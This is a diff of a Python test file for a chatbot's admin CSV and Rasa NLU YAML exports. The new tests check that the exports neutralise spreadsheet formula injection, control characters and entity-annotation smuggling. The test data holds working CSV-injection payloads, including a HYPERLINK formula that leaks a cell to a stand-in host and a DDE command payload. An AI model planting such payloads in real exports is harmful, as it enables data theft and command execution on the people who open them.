@@ -1,11 +1,15 @@
 import csv
-from datetime import date
+import io
+import re
+import unicodedata
+from datetime import date, datetime, timezone
 
 import yaml
 
-from bot.admin import reports
+from bot.admin import exports, reports
 from bot.admin.reports import QueryFilter
 from bot.admin.topics import topic_label
+from bot.querylog import QueryLogRow
 from bot.settings import PROJECT_ROOT
 from tests.querylog_rows import SAMPLE, add_rows, open_log
 
@@ -68,12 +72,12 @@ def test_labelled_queries_export_as_rasa_nlu_yaml(database_url):
             g for g in reports.unanswered_groups(session, QueryFilter()) if g.label is None
         ]
 
-    exported = yaml.safe_load(reports.nlu_yaml(examples, remaining))
+    exported = yaml.safe_load(exports.nlu_yaml(examples, remaining))
     by_intent = {block["intent"]: block["examples"] for block in exported["nlu"]}
     assert exported["version"] == "3.1"
     assert by_intent["ask_job_vacancy"].count("- ") == 2
     assert by_intent["ask_procedure"].count("- ") == 1
-    assert "# [1x" in reports.nlu_yaml(examples, remaining)
+    assert "# [1x" in exports.nlu_yaml(examples, remaining)
 
 
 def test_csv_export_has_the_scrubbed_text_and_no_pseudonym(database_url):
@@ -81,7 +85,7 @@ def test_csv_export_has_the_scrubbed_text_and_no_pseudonym(database_url):
     add_rows(sessions, SAMPLE)
     with sessions() as session:
         rows = reports.search_queries(session, QueryFilter(search="hubungi"))
-    text = reports.queries_csv(rows)
+    text = exports.queries_csv(rows)
 
     assert len(rows) == 1
     assert "<PHONE>" in text
@@ -106,3 +110,71 @@ def test_every_intent_has_a_topic_in_plain_indonesian():
     assert topic_label("ask_requirements") == "Syarat jadi PMI"
     assert (topic_label("dont_know"), topic_label("ask_term")) == ("Tidak tahu", "Arti istilah")
     assert topic_label(None) == "(tidak dikenali)"
+
+
+FORMULAS = [
+    '=HYPERLINK("http://x.example/?"&A1,"klik")',
+    "+62 812 <PHONE>",
+    "-1+1",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe(database_url):
+    sessions = open_log(database_url)
+    add_rows(sessions, [dict(text=text, kabupaten="=cmd|'/c calc'!A1") for text in FORMULAS])
+    with sessions() as session:
+        rows = reports.search_queries(session, QueryFilter())
+
+    header, *lines = csv.reader(io.StringIO(exports.queries_csv(rows), newline=""))
+    texts = [line[header.index("text")] for line in lines]
+    assert sorted(texts) == sorted(f"'{text}" for text in FORMULAS)
+    assert {line[header.index("kabupaten")] for line in lines} == {"'=cmd|'/c calc'!A1"}
+    assert [line[header.index("confidence")] for line in lines] == ["0.950"] * len(FORMULAS)
+
+
+def test_csv_cells_lose_control_characters_but_keep_line_breaks():
+    row = QueryLogRow(
+        id=1,
+        created_at=datetime(2026, 11, 27, tzinfo=timezone.utc),
+        message_kind="text",
+        text="\x1b]0;judul\x07tolong\nbantu\x1b[31m",
+        responses=[],
+        fell_back=False,
+        latency_ms=5,
+    )
+
+    header, line = csv.reader(io.StringIO(exports.queries_csv([row]), newline=""))
+    assert line[header.index("text")] == "]0;judultolong\nbantu[31m"
+
+
+# Rasa 3.6's own pattern for an entity annotation in a training example
+# (rasa/shared/nlu/training_data/entities_parser.py, ENTITY_REGEX), and the two plain forms.
+RASA_ENTITY_REGEX = re.compile(
+    r"\[(?P<entity_text>[^\]]+?)\](\((?P<entity>[^:)]+?)(?:\:(?P<value>[^)]+))?\)"
+    r"|\{(?P<entity_dict>[^}]+?)\}|\[(?P<list_entity_dicts>.*?)\])"
+)
+ANNOTATIONS = [RASA_ENTITY_REGEX, re.compile(r"\[[^\]]+\]\([^)]+\)"), re.compile(r"\[[^\]]+\]\{")]
+
+
+def test_the_nlu_export_has_no_control_characters_and_no_entity_annotations():
+    texts = [
+        "saya dari [Lahat](kabupaten) mau kerja",
+        'kantor di [OKI]{"entity": "kabupaten", "value": "Palembang"}',
+        'agen [Budi][{"entity": "nama"}] minta uang',
+        "tolong\x07 bantu\x1b[31m saya",
+        "kerja\u202e di\u200b luar negeri",
+    ]
+    group = reports.QuestionGroup("[Muara Enim](kabupaten)\x1b ada kantor?", [1], [], None)
+
+    text = exports.nlu_yaml({"ask_local_office": texts}, [group])
+
+    examples = yaml.safe_load(text)["nlu"][0]["examples"]
+    assert not [c for c in text if unicodedata.category(c) in ("Cc", "Cf") and c != "\n"]
+    assert not [p.pattern for p in ANNOTATIONS if p.search(text)]
+    assert "- saya dari (Lahat)(kabupaten) mau kerja\n" in examples  # the words all stay
+    assert "- tolong bantu(31m saya\n" in examples
+    assert "- kerja di luar negeri\n" in examples
+    assert "# [1x, the model guessed -] (Muara Enim)(kabupaten) ada kantor?" in text
